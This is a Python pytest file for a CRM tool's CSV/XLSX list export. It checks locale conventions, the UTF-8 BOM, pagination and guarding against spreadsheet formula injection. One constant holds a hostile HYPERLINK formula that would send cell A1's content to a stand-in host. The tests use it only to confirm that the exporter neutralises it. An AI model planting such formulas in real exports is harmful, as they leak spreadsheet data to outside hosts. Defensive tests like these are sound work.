"""A list out to CSV or XLSX: every row, the language's CSV conventions, formulas guarded."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from crm_tui.domain.errors import ValidationError
from crm_tui.reports.list_export import all_rows, write_list

HOSTILE = '=HYPERLINK("http://x.example/"&A1)'


def test_csv_in_each_language_with_formulas_guarded(tmp_path: Path) -> None:
    rows = [["Ромашка", HOSTILE, "+7 495 123-45-67", "-1500.00"]]
    ru, en = tmp_path / "ru.csv", tmp_path / "en.csv"
    assert write_list(ru, ["Наименование", "Комментарий", "Телефон", "Сумма"], rows, "ru") == 1
    assert write_list(en, ["Name", "Comment", "Phone", "Amount"], rows, "en") == 1
    assert ru.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel in Russia reads the BOM
    assert ru.read_text(encoding="utf-8-sig").splitlines()[1] == (
        "Ромашка;\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\";+7 495 123-45-67;-1500.00")
    assert en.read_text(encoding="utf-8-sig").splitlines()[0] == "Name,Comment,Phone,Amount"


def test_xlsx_text_cells_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "list.xlsx"
    assert write_list(path, ["Name", "Comment"], [["A", HOSTILE], ["B", "x\x01y"]], "en") == 2
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert sheet["B2"].value == HOSTILE and sheet["B2"].data_type == "s"
    assert sheet["B2"].quotePrefix
    assert sheet["B3"].value == "x\\x01y"


def test_every_page_is_read_and_the_format_checked(tmp_path: Path) -> None:
    data = [[str(i)] for i in range(1234)]
    assert len(list(all_rows(lambda offset, limit: data[offset:offset + limit]))) == 1234
    with pytest.raises(ValidationError):
        write_list(tmp_path / "list.txt", ["a"], [], "en")
    assert not (tmp_path / "list.txt").exists()
